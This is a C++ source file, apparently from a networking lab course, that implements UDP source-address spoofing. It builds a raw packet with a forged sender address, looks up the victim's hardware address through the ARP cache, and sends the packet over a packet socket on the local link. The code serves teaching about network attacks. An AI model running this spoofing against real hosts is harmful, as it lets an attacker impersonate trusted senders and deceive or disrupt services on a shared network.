// Lab 06's attack below IP: the frame's contents go out through a packet socket, and nobody fills in what is
// missing in the headers. The victim must be on the same cable.
#include <arpa/inet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netpacket/packet.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include <cstring>
#include <stdexcept>
#include <string>

#include "common/error.hh"
#include "spoofed_reply.hh"

namespace wirelab {
namespace {

constexpr const char* interface = "eth0";

/// Where the victim's packets go on the cable: its hardware address, which the kernel knows (arp(7)).
sockaddr_ll link_address(const Address& victim) {
  const Descriptor any(must(socket(AF_INET, SOCK_DGRAM, 0), "socket"));
  arpreq request{};
  std::memcpy(&request.arp_pa, victim.data(), sizeof(sockaddr_in));
  reinterpret_cast<sockaddr_in*>(&request.arp_pa)->sin_port = 0;
  std::strcpy(request.arp_dev, interface);
  must(ioctl(any.get(), SIOCGARP, &request), "look up", victim.host());
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_protocol = htons(0x0800);
  to.sll_ifindex = static_cast<int>(if_nametoindex(interface));
  to.sll_halen = 6;
  std::memcpy(to.sll_addr, request.arp_ha.sa_data, 6);
  return to;
}

}  // namespace

void run_attack(const Arguments& arguments) {
  const std::string message = arguments.words.empty() ? "" : arguments.words[0];
  const Address victim = Address::resolve(arguments.host, arguments.port, SOCK_DGRAM).front();
  if (!arguments.has("--as")) {
    const Descriptor descriptor(must(socket(AF_INET, SOCK_DGRAM, 0), "socket"));
    must(connect(descriptor.get(), victim.data(), *victim.size()), "connect", victim.to_string());
    must(send(descriptor.get(), message.data(), message.size(), 0), "send to", victim.to_string());
    return;
  }
  const std::string& claimed = arguments.options.at("--as");
  const auto colon = claimed.rfind(':');
  const auto port = static_cast<std::uint16_t>(std::stoul(claimed.substr(colon + 1)));
  const std::string packet = make_packet(Address::numeric(claimed.substr(0, colon), port), victim, message);
  const Descriptor descriptor(must(socket(AF_PACKET, SOCK_DGRAM, 0), "socket", "packet"));
  const sockaddr_ll to = link_address(victim);
  must(sendto(descriptor.get(), packet.data(), packet.size(), 0, reinterpret_cast<const sockaddr*>(&to),
              sizeof to),
       "send to", victim.to_string());
}

}  // namespace wirelab
